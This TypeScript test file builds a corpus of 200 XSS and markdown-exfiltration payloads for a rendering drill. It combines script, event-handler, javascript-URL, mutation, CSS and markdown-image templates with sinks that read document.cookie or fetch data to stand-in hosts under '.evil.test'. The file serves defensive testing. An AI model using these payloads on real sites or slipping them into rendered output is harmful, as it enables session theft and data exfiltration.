/**
 * XSS and markdown-exfiltration payloads for the rendering drill (issue 10, drill 7). Each class is
 * a family of templates; every template is combined with several sinks so the corpus reaches 200
 * distinct payloads. A payload that ran would set `window.__pwned` to its id or call alert(); one
 * that leaked would request a host under `.evil.test`, which is never the app's.
 *
 * The words around the markup avoid the demo team's routing and knowledge-base keywords, so every
 * payload takes the same path (technical → kb_search → low confidence → inbox).
 */
export interface XssPayload {
  id: string;
  cls: string;
  text: string;
}

type Template = (id: string, js: string, host: string) => string;

const classes: Record<string, Template[]> = {
  "script tag": [
    (_id, js) => `<script>${js}</script>`,
    (_id, js) => `<SCRIPT>${js}</SCRIPT>`,
    (_id, _js, host) => `<script src="https://${host}/x.js"></script>`,
    (_id, js) => `<script type="module">${js}</script>`,
  ],
  "event handler": [
    (_id, js) => `<img src=x onerror="${js}">`,
    (_id, js) => `<svg onload="${js}"></svg>`,
    (_id, js) => `<body onload="${js}">`,
    (_id, js) => `<details open ontoggle="${js}"><summary>x</summary></details>`,
    (_id, js) => `<input autofocus onfocus="${js}">`,
    (_id, js) => `<video><source onerror="${js}"></video>`,
    (_id, js) => `<marquee onstart="${js}">x</marquee>`,
  ],
  "javascript url": [
    (_id, js) => `<a href="javascript:${js}">click</a>`,
    (_id, js) => `[click](javascript:${js})`,
    (_id, js) => `<iframe src="javascript:${js}"></iframe>`,
    (_id, js) => `<form action="javascript:${js}"><button>go</button></form>`,
  ],
  "markdown image exfiltration": [
    (id, _js, host) => `![status](https://${host}/p.png?leak=${id}&d=conversation-secret)`,
    (id, _js, host) => `![s][r]\n\n[r]: https://${host}/r.png?leak=${id}`,
    (id, _js, host) => `<img src="https://${host}/i.png?leak=${id}">`,
    (id, _js, host) => `<img srcset="https://${host}/s.png?leak=${id} 2x">`,
    (id, _js, host) => `[![s](https://${host}/n.png?leak=${id})](https://${host}/)`,
  ],
  "css exfiltration": [
    (id, _js, host) => `<style>@import url("https://${host}/c.css?leak=${id}");</style>`,
    (id, _js, host) => `<div style="background:url(https://${host}/b.png?leak=${id})">x</div>`,
    (id, _js, host) => `<link rel="stylesheet" href="https://${host}/l.css?leak=${id}">`,
    (id, _js, host) => `<svg><image href="https://${host}/sv.png?leak=${id}"/></svg>`,
  ],
  "frames and objects": [
    (_id, js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
    (_id, _js, host) => `<object data="https://${host}/o.swf"></object>`,
    (_id, _js, host) => `<embed src="https://${host}/e.swf">`,
    (_id, _js, host) => `<meta http-equiv="refresh" content="0;url=https://${host}/">`,
  ],
  "attribute breakout": [
    (_id, js) => `"><img src=x onerror="${js}">`,
    (_id, js) => `'><script>${js}</script>`,
    (_id, js) => `" autofocus onfocus="${js}" x="`,
    (_id, js) => `</textarea><script>${js}</script>`,
  ],
  "script-context breakout": [
    (_id, js) => `</script><script>${js}</script>`,
    (_id, js) => `\\u003c/script\\u003e\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
    (_id, js) => `"]);${js};//`,
    (_id, js) => `</title><script>${js}</script>`,
  ],
  "mutation xss": [
    (_id, js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    (_id, js) => `<svg><style><img src=x onerror="${js}"></style></svg>`,
    (_id, js) => `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
    (_id, js) => `<template><img src=x onerror="${js}"></template>`,
  ],
  "encoded": [
    (_id, js) => `&lt;script&gt;${js}&lt;/script&gt;`,
    (_id, js) => `&#60;img src=x onerror=&#34;${js}&#34;&#62;`,
    (_id, js) => `%3Cscript%3E${encodeURIComponent(js)}%3C%2Fscript%3E`,
    // A raw NUL is refused by the API (PostgreSQL cannot store it); its entity is not.
    (_id, js) => `<img src=x one&#0;rror="${js}">`,
  ],
  "base and dom clobbering": [
    (_id, _js, host) => `<base href="https://${host}/">`,
    (id) => `<form id="__pwned" name="${id}"><input name="attributes"></form>`,
    (id) => `<img name="__pwned" id="${id}">`,
  ],
  "template injection": [
    (_id, js) => `{{constructor.constructor('${js}')()}}`,
    (_id, js) => `\${${js}}`,
    (_id, js) => `<%= ${js} %>`,
  ],
};

const sinks: ReadonlyArray<(id: string) => string> = [
  (id) => `window.__pwned='${id}'`,
  (id) => `alert('${id}')`,
  (id) => `fetch('https://exfil.evil.test/?leak=${id}')`,
  (id) => `top.__pwned=document.cookie||'${id}'`,
];

/** Every payload of the corpus: every class, every template, sinks in rotation up to `count`. */
export function xssCorpus(count: number): XssPayload[] {
  const all: XssPayload[] = [];
  const entries = Object.entries(classes);
  // Round-robin over classes so any prefix of the corpus covers every class.
  for (let round = 0; all.length < 10_000; round++) {
    let added = false;
    for (const [cls, templates] of entries) {
      const template = templates[round % templates.length]!;
      const sink = sinks[Math.floor(round / templates.length) % sinks.length]!;
      if (round >= templates.length * sinks.length) continue;
      const id = `x${String(all.length).padStart(3, "0")}`;
      all.push({ id, cls, text: template(id, sink(id), `${id}.evil.test`) });
      added = true;
    }
    if (!added) break;
  }
  if (all.length < count) throw new Error(`the XSS corpus has ${all.length} payloads, fewer than ${count}`);
  return all.slice(0, count);
}

export const xssClasses = Object.keys(classes);
